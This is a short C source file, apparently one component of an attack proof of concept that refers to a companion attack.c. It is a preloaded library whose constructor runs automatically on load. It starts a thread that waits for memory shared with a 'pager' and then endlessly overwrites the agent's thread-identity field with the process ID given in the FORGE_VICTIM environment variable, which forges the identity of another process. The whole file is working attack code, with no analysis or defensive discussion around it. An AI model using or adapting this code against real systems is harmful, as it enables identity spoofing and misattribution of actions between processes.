/*
 * Preloaded beside the agent: says in the memory shared with the pager, from the moment that there is any,
 * that the agent's thread is the process that FORGE_VICTIM names (see attack.c).
 */
#include "ours.h"

static void *forge(void *number) {
    volatile uint32_t *shared = NULL;
    while (!shared) shared = shared_memory();
    for (;;) shared[AT_THREAD] = (uint32_t)(uintptr_t)number;
    return NULL;
}

__attribute__((constructor)) static void start(void) {
    const char *number = getenv("FORGE_VICTIM");
    pthread_t thread;
    if (number) pthread_create(&thread, NULL, forge, (void *)strtoul(number, NULL, 10));
}
